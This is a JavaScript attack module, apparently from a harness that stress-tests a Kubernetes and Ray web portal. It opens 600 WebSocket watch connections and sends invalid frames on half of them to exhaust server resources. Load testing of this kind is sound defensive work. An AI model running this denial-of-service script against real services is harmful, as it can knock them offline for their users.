const SOCKETS = 600;
const OPENING = 20;

const PATHS = [
  '/apis/ray.io/v1/rayclusters?watch=true',
  '/apis/ray.io/v1/rayclusters?watch=true&resourceVersion=1',
  '/api/v1/pods?watch=true',
];

const UPGRADE = {
  connection: 'Upgrade',
  upgrade: 'websocket',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
};

/** @type {import('./Target.mjs').Attack} */
export const kubernetesSockets = {
  name: '600 watches over WebSockets',
  finding: 'a watch at Kubernetes for each, and frames for each change',
  run: async target => {
    // The portal takes handshakes once a client has asked for anything else, as clients do.
    await target.send({ path: '/apis/ray.io/v1/rayclusters?limit=1' });
    let turn = 0;
    /** @type {Set<import('node:stream').Duplex>} */
    const sockets = new Set();
    const open = (/** @type {() => void} */ onEnd) =>
      new Promise(resolve => {
        const path = PATHS[turn++ % PATHS.length] ?? '';
        const outgoing = target.open(
          { path, headers: UPGRADE, ownConnection: true },
          response => {
            target.count(response.statusCode ?? 0);
            response.on('error', () => undefined);
            response.resume();
            resolve(false);
          },
        );
        outgoing.on('upgrade', (response, socket) => {
          target.count(response.statusCode ?? 0);
          sockets.add(socket);
          socket.on('error', () => undefined);
          socket.once('close', () => {
            sockets.delete(socket);
            onEnd();
          });
          // Not a frame: the server has to end what does not follow the protocol.
          if (turn % 2) socket.write(Buffer.alloc(1_000, 0xff));
          socket.resume();
          resolve(true);
        });
        outgoing.on('error', (/** @type {NodeJS.ErrnoException} */ error) => {
          target.count(error.code ?? error.message);
          resolve(false);
        });
        outgoing.end();
      });
    await target.hold({ count: SOCKETS, opening: OPENING, open });
    sockets.forEach(socket => socket.destroy());
  },
};
